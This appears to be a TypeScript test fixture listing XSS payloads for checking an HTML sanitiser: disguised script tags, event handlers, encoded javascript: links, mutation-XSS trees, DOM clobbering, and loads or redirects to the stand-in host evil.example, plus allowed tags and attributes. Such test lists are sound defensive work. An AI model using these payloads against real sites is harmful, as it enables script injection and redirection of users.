import { HOSTILE_MARKUP, HOSTILE_URLS } from '#sandbox/faults/hostileValues.ts';

/** Attacks that run script, load from outside, cover the page or lead to another site; each sets __pwned if its script runs. */
const MORE: readonly string[] = [
  // Script in every disguise.
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>window.__pwned=1</scr</script>ipt>',
  '<script type="module">window.__pwned=1</script>',
  '<script\x20type="text/javascript">window.__pwned=1;</script>',
  '<svg><script>window.__pwned=1</script></svg>',
  '<svg><script href="https://evil.example/x.js"/></svg>',
  '<noscript><p title="</noscript><img src=x onerror=window.__pwned=1>">',
  '<template><script>window.__pwned=1</script></template>',
  '<xmp><p title="</xmp><img src=x onerror=window.__pwned=1>">',
  '<textarea><p title="</textarea><img src=x onerror=window.__pwned=1>">',
  '<select><style></select><img src=x onerror=window.__pwned=1></style>',
  // Handlers.
  '<body onload=window.__pwned=1>',
  '<p onclick="window.__pwned=1" onmouseover=window.__pwned=1>x</p>',
  '<input autofocus onfocus=window.__pwned=1>',
  '<video><source onerror="window.__pwned=1"></video>',
  '<audio src=x onerror=window.__pwned=1>',
  '<marquee onstart=window.__pwned=1>x</marquee>',
  '<img src=x onerror\x0a=\x0awindow.__pwned=1>',
  '<img/src=x/onerror=window.__pwned=1>',
  '<img src="x" onerror="window.__pwned=1" onerror="x">',
  '<svg><animate onbegin=window.__pwned=1 attributeName=x dur=1s>',
  '<svg><set attributeName=href to=javascript:window.__pwned=1>',
  '<details ontoggle=window.__pwned=1 open>x</details>',
  '<p style="animation: spin 1s" onanimationstart="window.__pwned=1">x</p>',
  // Addresses.
  '<a href="&#106;avascript:window.__pwned=1">x</a>',
  '<a href="javascript&colon;window.__pwned=1">x</a>',
  '<a href="java&#x0A;script:window.__pwned=1">x</a>',
  '<a href=" &#14; javascript:window.__pwned=1">x</a>',
  '<a href="//evil.example/">x</a>',
  '<a href="/\\evil.example/">x</a>',
  '<a href="\\\\evil.example/">x</a>',
  '<a href="https://user@evil.example/">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+">x</a>',
  '<a href="feed:javascript:window.__pwned=1">x</a>',
  '<a ping="https://evil.example/p" href="/cart" download>x</a>',
  '<img src="//evil.example/pixel.gif">',
  '<img src="data:image/svg+xml,<svg onload=window.__pwned=1>">',
  '<img srcset="https://evil.example/1.png 2x" src="/x.png">',
  '<img src=/x.png crossorigin usemap=#m><map name=m><area href=javascript:window.__pwned=1></map>',
  '<table background="https://evil.example/t.png"><tr><td background="javascript:window.__pwned=1">x</td></tr></table>',
  // Frames, forms, styles, and what changes the page around it.
  '<iframe src="https://evil.example/"></iframe>',
  '<iframe src="javascript:parent.__pwned=1"></iframe>',
  '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">',
  '<button formaction="javascript:window.__pwned=1">x</button>',
  '<form id=attributes><input name=nodeName><input name=parentNode></form>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<p style="background:url(https://evil.example/s.png);position:fixed">x</p>',
  '<meta http-equiv="Set-Cookie" content="a=b"><meta http-equiv="refresh" content="0;javascript:window.__pwned=1">',
  '<base target="_blank" href="https://evil.example/">',
  '<dialog open id="splash">x</dialog>',
  '<p id="root" class="fixed inset-0 z-50" name="cookie">covered</p>',
  '<a id=location href="https://evil.example/">x</a><a id=location name=href href="https://evil.example/">y</a>',
  '<h1>A second title</h1><main>x</main><header>y</header>',
  // Mutation XSS: trees that parse differently the second time.
  '<math><mi><mglyph><svg><mtext><style><path id="</style><img onerror=window.__pwned=1 src>">',
  '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=window.__pwned=1 src>">',
  '<svg></p><style><a id="</style><img src=1 onerror=window.__pwned=1>">',
  '<svg><desc><table><title><style></title><img src onerror=window.__pwned=1></style></table></desc></svg>',
  '<svg><foreignObject><p><iframe srcdoc="<img src=x onerror=parent.__pwned=1>"></iframe></p></foreignObject></svg>',
  '<!--><img src=x onerror=window.__pwned=1>-->',
  '<![CDATA[<img src=x onerror=window.__pwned=1>]]>',
  '<?xml version="1.0"?><?xml-stylesheet href="javascript:window.__pwned=1"?>',
  '<p is="x-thing" part="a" slot="b" contenteditable autofocus tabindex=1>x</p>',
  '<custom-element onclick=window.__pwned=1>x</custom-element>',
  `${'<b>'.repeat(600)}<img src=x onerror=window.__pwned=1>`,
];

/** All attacks on the sanitiser. */
export const PAYLOADS: readonly string[] = [
  ...HOSTILE_MARKUP,
  ...HOSTILE_URLS.flatMap((url) => {
    const attribute = url.replaceAll('"', '&quot;');
    return [`<a href="${attribute}">link</a>`, `<img src="${attribute}" alt="picture">`];
  }),
  ...MORE,
];

/** The elements and attributes that a guide may contain. */
export const ALLOWED_TAGS: readonly string[] =
  'a img h2 h3 h4 h5 h6 p br hr ul ol li strong em b i u s small sub sup span figure figcaption table thead tbody tr th td blockquote code pre'.split(
    ' ',
  );
export const ALLOWED_ATTRIBUTES: readonly string[] =
  'href src alt title width height loading colspan rowspan rel target'.split(' ');
